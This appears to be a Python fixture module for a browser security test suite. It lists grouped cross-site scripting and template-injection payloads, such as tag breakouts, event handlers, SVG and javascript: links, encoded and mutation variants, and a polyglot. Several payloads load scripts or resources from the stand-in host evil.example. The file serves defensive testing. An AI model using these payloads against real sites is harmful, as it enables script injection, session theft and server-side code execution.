"""Texts that try to become code in a browser, grouped by the door they try.

`pwned()` is what they call, `evil.example` whom they call up. `sink` is the place in a careless
page where the payload bites: test_scripts_in_browser.py first sees it bite there, so that its
silence elsewhere means something. Without a sink, no browser of today runs it as it stands; it
waits for a server that decodes once too often.
"""

from dataclasses import dataclass

SINKS = {
    "text": "<p>{}</p>",
    "title": "<title>{}</title>",
    "textarea": "<textarea>{}</textarea>",
    "comment": "<!-- {} -->",
    "double": '<input value="{}">',
    "single": "<input value='{}'>",
    "unquoted": "<input value={}>",
    "link": '<a href="{}">link</a>',
    "linked": "<a href='{}'>link</a>",
    "style": "<style>p {{ color: {} }}</style>",
    "string": "<script>var said = '{}';</script>",
}


@dataclass(frozen=True)
class Payload:
    """One text and the careless place it is made for."""

    text: str
    sink: str | None = None


TAGS = (
    Payload("<script>pwned()</script>", "text"),
    Payload("<ScRiPt\n>alert(1)</sCrIpT\t>", "text"),
    Payload("<script src=//evil.example/x.js></script>", "text"),
    Payload("</title><script>pwned()</script>", "title"),
    Payload("</textarea><script>pwned()</script>", "textarea"),
    Payload("--!><script>pwned()</script>", "comment"),
    Payload("</script><script>pwned()</script>", "string"),
    Payload("';pwned();//", "string"),
    Payload('<iframe srcdoc="<script>parent.pwned()</script>"></iframe>', "text"),
    Payload("<object data=//evil.example/x></object>", "text"),
    Payload("<base href=//evil.example/><img src=a>", "text"),
    Payload('<meta http-equiv=refresh content="0;url=//evil.example/">', "text"),
)
ATTRIBUTES = (
    Payload('" autofocus onfocus=pwned() x="', "double"),
    Payload("' autofocus onfocus=pwned() x='", "single"),
    Payload("x autofocus onfocus=pwned()", "unquoted"),
    Payload('"><img src=x onerror=pwned()>', "double"),
    Payload("'><svg onload=pwned()>", "single"),
    Payload('"style="background:url(//evil.example/c.png)"x="', "double"),
)
HANDLERS = (
    Payload("<img src=x onerror=alert(1)>", "text"),
    Payload("<IMG/SRC=x ONERROR=&#112;wned() x", "text"),
    Payload("<details open ontoggle=pwned()>", "text"),
    Payload("<video><source src=x onerror=pwned()></video>", "text"),
    Payload("<form><button formaction=javascript:pwned()>x</button></form>", "text"),
)
DRAWINGS = (
    Payload("<svg onload=alert(1)>", "text"),
    Payload("<svg><script>pwned()</script></svg>", "text"),
    Payload("<svg><animate onbegin=pwned() attributeName=x dur=1s></svg>", "text"),
    Payload('<svg><a xlink:href="javascript:pwned()"><text>x</text></a></svg>', "text"),
    Payload('<math href="javascript:pwned()">x</math>', "text"),
)
TEMPLATES = (
    Payload("{{1337*7331}}${1337*7331}#{1337*7331}<%= 1337*7331 %>"),
    Payload("{{''.__class__.__mro__[1].__subclasses__()}}"),
    Payload("{title} {0.__class__} {count} %s %(name)s"),
    Payload("{{constructor.constructor('pwned()')()}}"),
)
LINKS = (
    Payload("javascript:pwned()", "link"),
    Payload("jAvA&Tab;sCrIpT&colon;pwned()", "link"),
    Payload("data:text/html,<script>alert(1)</script>", "link"),
    Payload("http://x/?'onmouseover='pwned()", "linked"),
    Payload('http://x.example/?"onmouseover="pwned()', "link"),
    Payload("[x](javascript:pwned()) <javascript:pwned()>"),
)
FRAMES = (
    Payload('<iframe name="pwned()" src="javascript:parent.pwned()"></iframe>', "text"),
    Payload("<iframe name=x onload=pwned()></iframe>", "text"),
)
STYLES = (
    Payload("<style>@import'//evil.example/x.css';</style>", "text"),
    Payload("</style><script>pwned()</script>", "style"),
)
CODED = (
    Payload("&lt;script&gt;pwned()&lt;/script&gt;"),
    Payload("&#60;img src=x onerror=pwned()&#62;"),
    Payload("%3Cscript%3Epwned()%3C/script%3E"),
    Payload("\\u003cimg src=x onerror=pwned()\\u003e \\x3cscript\\x3e"),
    Payload("＜script＞pwned()＜/script＞"),
    Payload("<scr\u200bipt>pwned()</scr\u200bipt>"),
    Payload("<\u017fcript>pwned()</\u017fcript>"),
    Payload("+ADw-script+AD4-pwned()+ADw-/script+AD4-"),
)
MUTATIONS = (
    Payload('<svg></p><style><a id="</style><img src=x onerror=pwned()>">', "text"),
    Payload('<p id="</noscript><img src=x onerror=pwned()>"><noscript>'),
    Payload("<math><mtext><table><mglyph><style><img src=x onerror=pwned()>"),
    Payload("<a id=comment-list><form id=main name=dataset><input name=live>"),
)
POLYGLOT = Payload("'\"></title></textarea></style></script>--!><svg onload=alert(1)>", "double")

PAYLOADS = (
    *TAGS,
    *ATTRIBUTES,
    *HANDLERS,
    *DRAWINGS,
    *TEMPLATES,
    *LINKS,
    *FRAMES,
    *STYLES,
    *CODED,
    *MUTATIONS,
    POLYGLOT,
)
ALL = "\n".join(payload.text for payload in PAYLOADS)
ON_ONE_LINE = " ".join(ALL.split())
